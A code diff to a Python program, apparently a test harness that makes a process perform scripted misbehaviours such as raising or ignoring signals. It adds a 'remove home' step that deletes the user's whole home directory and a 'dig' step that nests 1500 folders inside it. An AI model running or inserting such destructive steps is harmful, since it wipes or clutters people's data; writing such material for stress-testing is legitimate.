@@ -13,6 +13,7 @@ import fcntl
 import json
 import os
 import resource
+import shutil
 import signal
 import socket
 import sys
@@ -177,8 +178,17 @@ STEPS = {
     "usual": lambda: play(PART["usual"][cue()]),
     "raise": lambda number: os.kill(os.getpid(), number),
     "ignore": lambda number: signal.signal(number, signal.SIG_IGN),
-    "close folder": close_folder,
+    "close folder": close_folder, "remove home": lambda: shutil.rmtree(os.environ["HOME"]),
+    "dig": dig,
 }
+
+
+def dig():
+    """Makes folders within one another, deeper than a path can name."""
+    os.chdir(os.environ["HOME"])
+    for _ in range(1500):
+        os.mkdir("deeper")
+        os.chdir("deeper")
 
 
 def play(steps):
